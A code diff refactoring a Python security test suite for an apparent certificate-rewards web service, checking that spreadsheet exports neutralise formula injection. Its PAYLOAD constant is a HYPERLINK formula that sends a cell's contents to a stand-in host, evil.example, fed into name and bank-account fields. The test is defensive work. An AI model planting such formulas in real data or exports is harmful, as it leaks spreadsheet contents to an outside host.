@@ -10,19 +10,17 @@ import html
 import io
 import re
 import zipfile
-from datetime import date, timedelta
 
 import pytest
 
 from certhub_kit.exports import FORMULA_STARTS, neutral_cell
-from tests.support.apps import Clients
-from tests.support.samples import certificate_jpeg, certificate_png
+from tests.support.fleet import student_claims
+from tests.support.samples import certificate_png
 
 pytestmark = pytest.mark.security
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&B2,"Pay")'
 SUB = "s1109914"  # a student of its own: no other security test touches its records
-CLAIMS = {"sub": SUB, "email": f"{SUB}@demo.certhub.tw", "name": PAYLOAD, "roles": ["student"],
-          "dept": ["EE"], "division": "day", "program": "bachelor", "class": "EE2B"}
+CLAIMS = student_claims(SUB, PAYLOAD)
 
 
 def test_neutral_cell_follows_owasp() -> None:
@@ -33,26 +31,9 @@ def test_neutral_cell_follows_owasp() -> None:
     assert neutral_cell("王小明") == "王小明" and neutral_cell(None) == ""
 
 
-def _client(fleet, service: str):
-    return Clients(fleet.apps[service], fleet.issuer).with_token(fleet.issuer.issue(CLAIMS))
-
-
 async def _paid_for_by_a_formula(fleet) -> str:
-    gept = fleet.entries["gept"]
-    async with _client(fleet, "certificates") as student:
-        answer = await student.post("/api/certificates", data={
-            "entry_id": gept["id"], "level_id": gept["levels"]["中級"], "email": CLAIMS["email"],
-            "issued_on": (date.today() - timedelta(days=20)).isoformat()},
-            files={"scan": ("scan.jpg", certificate_jpeg(1414), "image/jpeg")})
-    assert answer.status_code == 201, answer.text
-    certificate = answer.json()["id"]
-    await fleet.approve(certificate, who="rev-ee")
-    standard = await fleet.standard("全民英檢中級或同等級英語檢定")
-    async with _client(fleet, "rewards") as student:
-        applied = await student.post("/api/rewards/applications", json={
-            "standard_id": standard["id"], "certificate_ids": [certificate]})
-        assert applied.status_code == 201, applied.text
-        application = applied.json()["id"]
+    application = await fleet.applied_as(CLAIMS, "gept", "中級", "全民英檢中級或同等級英語檢定")
+    async with fleet.as_claims("rewards", CLAIMS) as student:
         saved = await student.put(f"/api/rewards/applications/{application}/bank-account", data={
             "method": "bank", "code": "0040174", "account_no": "123456789012", "account_name": PAYLOAD,
             "postal_code": "900", "address": "屏東縣屏東市民生路4-18號"},
